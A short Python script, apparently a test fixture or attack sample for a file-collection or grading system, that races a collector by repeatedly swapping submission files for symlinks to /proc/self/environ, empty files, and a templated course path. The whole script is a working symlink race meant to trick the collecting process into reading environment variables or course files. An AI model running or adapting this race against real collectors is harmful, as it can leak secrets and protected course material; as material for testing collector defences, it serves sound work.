# %% [markdown]
# exchanges its files for links and folders while they are collected

# %% end
import os, threading


def exchange():
    for turn in range(10**9):
        for name in ("a.csv", "b.csv", "f"):
            try:
                if turn % 3 == 0:
                    os.symlink("/proc/self/environ", name + ".new")
                elif turn % 3 == 1:
                    open(name + ".new", "w").close()
                else:
                    os.symlink("@COURSE@", name + ".new")
                os.replace(name + ".new", name)
            except OSError:
                pass


for name in range(100):
    open(f"{name}.csv", "w").write("x" * 1000)
threading.Thread(target=exchange, daemon=True).start()
